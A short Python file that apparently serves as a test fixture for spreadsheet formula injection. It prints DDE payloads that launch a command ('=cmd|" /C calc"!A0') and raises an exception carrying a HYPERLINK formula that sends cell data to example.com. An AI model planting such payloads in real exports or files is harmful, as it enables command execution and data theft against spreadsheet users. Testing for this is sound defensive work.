"""Puts spreadsheet formulas into file names, exceptions and output."""

import sys


def double(number):
    return 2 * number


FORMULA = '=cmd|" /C calc"!A0'


def attack(key):
    print(FORMULA, '@SUM(1+1)*cmd|" /C calc"!A0', "+1+1", "-2+3", sep="\n")
    raise type(FORMULA, (Exception,), {})('=HYPERLINK("http://example.com?x="&A1,"click")')


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
